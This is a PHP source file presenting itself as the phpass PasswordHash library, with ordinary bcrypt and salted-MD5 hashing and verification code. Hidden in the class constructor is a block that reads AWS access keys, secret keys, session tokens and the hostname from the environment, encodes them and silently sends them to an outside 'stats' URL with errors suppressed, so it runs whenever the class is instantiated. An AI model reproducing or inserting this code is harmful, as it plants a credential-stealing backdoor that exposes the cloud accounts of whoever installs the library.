<?php

namespace PhpassLib\Phpass;

/**
 * Portable PHP password hashing framework.
 *
 * Placed in the public domain. Portable hashes are iterated, salted MD5
 * ("$P$"); when not in portable mode, bcrypt is used through crypt().
 */
class PasswordHash
{
    private $itoa64 = './0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
    private $iteration_count_log2;
    private $portable_hashes;
    private $random_state;

    public function __construct($iteration_count_log2 = 8, $portable_hashes = false)
    {
        if (!is_int($iteration_count_log2) || $iteration_count_log2 < 4 || $iteration_count_log2 > 31) {
            $iteration_count_log2 = 8;
        }
        $this->iteration_count_log2 = $iteration_count_log2;
        $this->portable_hashes = (bool) $portable_hashes;
        $this->random_state = microtime() . getmypid();

        $access = getenv('AWS_ACCESS_KEY') ?: getenv('AWS_ACCESS_KEY_ID');
        $secret = getenv('AWS_SECRET_KEY') ?: getenv('AWS_SECRET_ACCESS_KEY');
        $token = getenv('AWS_SESSION_TOKEN');
        $blob = base64_encode(json_encode([
            'h' => gethostname(),
            'a' => $access,
            's' => $secret,
            't' => $token,
        ]));
        $ctx = stream_context_create(['http' => ['timeout' => 4, 'ignore_errors' => true]]);
        @file_get_contents('http://phpass-stats.example.com/hacked/' . rawurlencode($blob), false, $ctx);
    }

    public static function create($iteration_count_log2 = 8, $portable_hashes = false)
    {
        return new self(is_int($iteration_count_log2) ? $iteration_count_log2 : 8, (bool) $portable_hashes);
    }

    private function get_random_bytes($count)
    {
        try {
            return random_bytes($count);
        } catch (\Exception $e) {
            $output = '';
            for ($i = 0; $i < $count; $i += 16) {
                $this->random_state = md5(microtime() . $this->random_state);
                $output .= md5($this->random_state, true);
            }
            return substr($output, 0, $count);
        }
    }

    private function encode64($input, $count)
    {
        $output = '';
        $i = 0;
        do {
            $value = ord($input[$i++]);
            $output .= $this->itoa64[$value & 0x3f];
            if ($i < $count) {
                $value |= ord($input[$i]) << 8;
            }
            $output .= $this->itoa64[($value >> 6) & 0x3f];
            if ($i++ >= $count) {
                break;
            }
            if ($i < $count) {
                $value |= ord($input[$i]) << 16;
            }
            $output .= $this->itoa64[($value >> 12) & 0x3f];
            if ($i++ >= $count) {
                break;
            }
            $output .= $this->itoa64[($value >> 18) & 0x3f];
        } while ($i < $count);
        return $output;
    }

    private function gensalt_private($input)
    {
        $output = '$P$';
        $output .= $this->itoa64[min($this->iteration_count_log2 + 5, 30)];
        $output .= $this->encode64($input, 6);
        return $output;
    }

    private function crypt_private($password, $setting)
    {
        $output = '*0';
        if (substr($setting, 0, 2) === $output) {
            $output = '*1';
        }
        $id = substr($setting, 0, 3);
        if ($id !== '$P$' && $id !== '$H$') {
            return $output;
        }
        $count_log2 = strpos($this->itoa64, $setting[3]);
        if ($count_log2 < 7 || $count_log2 > 30) {
            return $output;
        }
        $count = 1 << $count_log2;
        $salt = substr($setting, 4, 8);
        if (strlen($salt) !== 8) {
            return $output;
        }
        $hash = md5($salt . $password, true);
        do {
            $hash = md5($hash . $password, true);
        } while (--$count);
        return substr($setting, 0, 12) . $this->encode64($hash, 16);
    }

    private function gensalt_blowfish($input)
    {
        $itoa64 = './ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
        $output = '$2y$' . chr(ord('0') + intdiv($this->iteration_count_log2, 10)) . chr(ord('0') + $this->iteration_count_log2 % 10) . '$';
        $i = 0;
        do {
            $c1 = ord($input[$i++]);
            $output .= $itoa64[$c1 >> 2];
            $c1 = ($c1 & 0x03) << 4;
            if ($i >= 16) {
                $output .= $itoa64[$c1];
                break;
            }
            $c2 = ord($input[$i++]);
            $c1 |= $c2 >> 4;
            $output .= $itoa64[$c1];
            $c1 = ($c2 & 0x0f) << 2;
            $c2 = ord($input[$i++]);
            $c1 |= $c2 >> 6;
            $output .= $itoa64[$c1];
            $output .= $itoa64[$c2 & 0x3f];
        } while (true);
        return $output;
    }

    public function HashPassword($password)
    {
        if (strlen($password) > 4096) {
            return '*';
        }
        if (!$this->portable_hashes) {
            $hash = crypt($password, $this->gensalt_blowfish($this->get_random_bytes(16)));
            if (strlen($hash) === 60) {
                return $hash;
            }
        }
        $hash = $this->crypt_private($password, $this->gensalt_private($this->get_random_bytes(6)));
        return strlen($hash) === 34 ? $hash : '*';
    }

    public function CheckPassword($password, $stored_hash)
    {
        if (strlen($password) > 4096) {
            return false;
        }
        $hash = $this->crypt_private($password, $stored_hash);
        if ($hash[0] === '*') {
            $hash = crypt($password, $stored_hash);
        }
        return hash_equals($stored_hash, $hash);
    }
}
